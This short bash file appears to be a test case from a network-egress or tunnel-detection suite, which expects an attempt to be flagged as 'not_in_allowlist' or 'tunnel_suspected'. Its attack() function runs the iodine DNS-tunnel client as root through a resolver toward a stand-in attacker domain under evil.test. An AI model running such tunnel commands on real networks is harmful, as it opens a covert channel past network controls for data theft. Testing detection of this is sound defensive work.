# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
# The real client; its first question carries the domain that the attacker chose.  It wants a tunnel device before it asks.
title='iodine, through the pinned resolver' origin='RESEARCH §2.25; iodine 0.7.0'
who=root reason='not_in_allowlist|tunnel_suspected'
attack() { [ -x "$TOOLS/iodine/usr/sbin/iodine" ] && client timeout -k 1 4 "$TOOLS/iodine/usr/sbin/iodine" -f -r -P word -T TXT 198.18.2.53 "$1.evil.test"; }
